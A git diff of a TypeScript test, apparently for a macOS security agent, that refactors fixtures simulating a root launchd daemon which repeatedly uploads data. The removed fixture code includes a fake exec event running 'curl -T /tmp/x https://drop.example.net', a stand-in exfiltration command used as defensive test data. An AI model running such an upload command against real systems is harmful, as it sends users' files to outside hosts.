@@ -10,8 +10,7 @@ import { createCorrelator } from '../../../agent/correlate/correlator.ts'
 import type { Clock, Collector } from '../../../platform/collector.ts'
 import type { Event } from '../../../platform/event.ts'
 import { macosCollectors } from '../../../platform/macos/index.ts'
-import { esloggerLine } from '../../support/eslogger-lines.ts'
-import { spawnLine, tcpLine } from '../../support/log-lines.ts'
+import { type LaunchdRun, runLines, runLog } from '../../support/launchd-run.ts'
 
 const skip = process.platform === 'win32' && 'needs a shell'
 
@@ -22,38 +21,6 @@ const SENT_BYTES = 5_000
 const LABEL = 'com.example.collect'
 const FILE = `/Library/LaunchDaemons/${LABEL}.plist`
 
-const at = (ms: number): string => new Date(ms).toISOString().replace('Z', '000000Z')
-const local = (ms: number): string =>
-  new Date(ms).toISOString().replace('T', ' ').replace('Z', '000+0000')
-
-/** What eslogger prints of one run: launchd, its step, the script, and curl below it. */
-function runLines(n: number): string[] {
-  const startMs = START_MS + n * QUARTER_MS
-  const [job, curl] = [200 + 2 * n, 201 + 2 * n]
-  const startTime = at(startMs)
-  const shell = { pid: job, ppid: 1, uid: 0, startTime }
-  const child = { pid: curl, ppid: job, uid: 0, startTime: at(startMs + 20) }
-  const exec = (ms: number, subject: object, path: string, args: readonly string[]) =>
-    esloggerLine({
-      type: 'exec',
-      version: 10,
-      time: at(startMs + ms),
-      subject: { ...(subject as typeof shell), path },
-      args,
-    })
-  return [
-    esloggerLine({ type: 'fork', time: startTime, subject: { ...shell, path: '/sbin/launchd' } }),
-    exec(1, shell, '/usr/libexec/xpcproxy', ['xpcproxy', LABEL]),
-    exec(9, shell, '/bin/bash', ['/bin/bash', '/opt/collect.sh']),
-    esloggerLine({
-      type: 'fork',
-      time: at(startMs + 20),
-      subject: { ...child, path: '/bin/bash' },
-    }),
-    exec(22, child, '/usr/bin/curl', ['curl', '-T', '/tmp/x', 'https://drop.example.net']),
-  ]
-}
-
 /** lsof sees the connections of all runs so far. */
 const lsofText = (n: number): string =>
   Array.from({ length: n + 1 }, (_, i) => {
@@ -61,31 +28,22 @@ const lsofText = (n: number): string =>
     return `${process}\nf5\ntIPv4\nPTCP\nn10.0.0.5:${50_000 + i}->203.0.113.9:443\nTST=ESTABLISHED\n`
   }).join('')
 
-/** What the log tells of one run: launchd's start, and curl's socket with hidden addresses. */
-function logLines(n: number): string[] {
-  const startMs = START_MS + n * QUARTER_MS
-  const socket = {
-    socket: n,
-    process: `curl:${201 + 2 * n}`,
-    ends: `<IPv4-redacted>:${50_000 + n}<-><IPv4-redacted>:443`,
-  }
-  return [
-    spawnLine(LABEL, 200 + 2 * n, { time: local(startMs + 8) }),
-    tcpLine('outgoing', { ...socket, time: local(startMs + 40) }),
-    tcpLine('summary', { ...socket, time: local(startMs + 9_000), bytes: `300/${SENT_BYTES + n}` }),
-  ]
-}
+const runAt = (n: number): LaunchdRun => ({
+  ...{ label: LABEL, script: '/opt/collect.sh', startMs: START_MS + n * QUARTER_MS },
+  ...{ pid: 200 + 2 * n, socket: n, localPort: 50_000 + n, sentBytes: SENT_BYTES + n },
+})
 
 function programs(t: Test) {
-  const runs = Array.from({ length: RUNS }, (_, n) => n)
-  const log = runs.flatMap(logLines)
+  const numbers = Array.from({ length: RUNS }, (_, n) => n)
+  const runs = numbers.map(runAt)
+  const log = runs.flatMap(runLog)
   const folder = t.testdir({
     eslogger: `#!/bin/sh\ncat "$(dirname "$0")/eslogger.ndjson"\n`,
     'eslogger.ndjson': `${runs.flatMap(runLines).join('\n')}\n`,
     log: `#!/bin/sh\necho 'Filtering the log data using "x"'\ncat "$(dirname "$0")/log.ndjson"\n`,
     'log.ndjson': `${log.join('\n')}\n`,
     lsof: `#!/bin/sh\ncd "$(dirname "$0")"\necho >> looks\ncat "lsof.$(wc -l < looks | tr -d ' ')"\n`,
-    ...Object.fromEntries(runs.map((n) => [`lsof.${n + 1}`, lsofText(n)])),
+    ...Object.fromEntries(numbers.map((n) => [`lsof.${n + 1}`, lsofText(n)])),
     root: {
       Library: {
         LaunchDaemons: {
